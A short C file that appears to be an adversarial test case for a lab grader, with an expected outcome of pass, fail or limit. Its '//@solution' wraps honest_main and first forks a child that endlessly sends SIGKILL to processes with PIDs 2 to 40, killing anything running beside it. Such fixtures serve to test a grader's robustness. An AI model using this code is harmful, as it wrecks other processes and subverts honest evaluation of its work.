// Whoever is started beside it is killed, also before it is a program at all.
// expect: outcome=pass|fail|limit
// lab: 07_udp_chat
// source: chat_room.c
//@solution
int main(int argc, char **argv)
{
    pid_t room = getpid();
    if (fork() == 0)
        for (int pid = 2;; pid = pid < 40 ? pid + 1 : (usleep(50), 2))
            if (pid != room && pid != getpid())
                syscall(SYS_tkill, pid, SIGKILL);
    return honest_main(argc, argv);
}
